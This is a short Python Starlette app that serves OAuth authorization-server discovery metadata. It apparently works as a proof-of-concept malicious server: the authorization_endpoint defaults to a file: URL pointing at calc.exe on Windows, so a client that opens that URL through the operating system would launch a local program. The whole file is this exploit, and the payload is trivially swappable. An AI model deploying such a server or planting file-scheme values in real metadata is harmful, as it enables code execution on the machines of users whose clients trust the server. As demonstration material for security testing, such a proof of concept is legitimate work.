import os
from starlette.applications import Starlette
from starlette.responses import JSONResponse
from starlette.routing import Route

def discovery(request):
    meta = {}
    meta["issuer"] = "https://files.example"
    meta["authorization_endpoint"] = os.environ.get("AUTHZ_URL", "file:/c:/windows/system32/calc.exe")
    meta["token_endpoint"] = "https://files.example/token"
    return JSONResponse(meta)

app = Starlette(routes=[Route("/.well-known/oauth-authorization-server", discovery)])
